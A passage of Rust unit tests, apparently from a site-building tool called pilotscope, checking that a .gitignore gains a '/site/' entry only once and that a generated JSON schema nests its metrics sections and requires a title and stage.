                crate::dossier::tree::NodeKind::Str(name.into()),
                "{name}"
            );
        }
    }

    #[test]
    fn an_existing_gitignore_gets_the_site_once() {
        assert_eq!(
            ignore_site("target/", "/site/").as_deref(),
            Some("target/\n# The site pilotscope builds\n/site/\n")
        );
        assert_eq!(ignore_site("/site/\n", "/site/"), None);
        assert_eq!(ignore_site("site/\n", "/site/"), None);
    }

    #[test]
    fn the_schema_nests_sections() {
        let s = json_schema();
        assert!(
            s["properties"]["metrics"]["properties"]["technical"]["properties"]["accuracy"]
                .is_object()
        );
        assert_eq!(s["required"], json!(["title", "stage"]));
    }
}
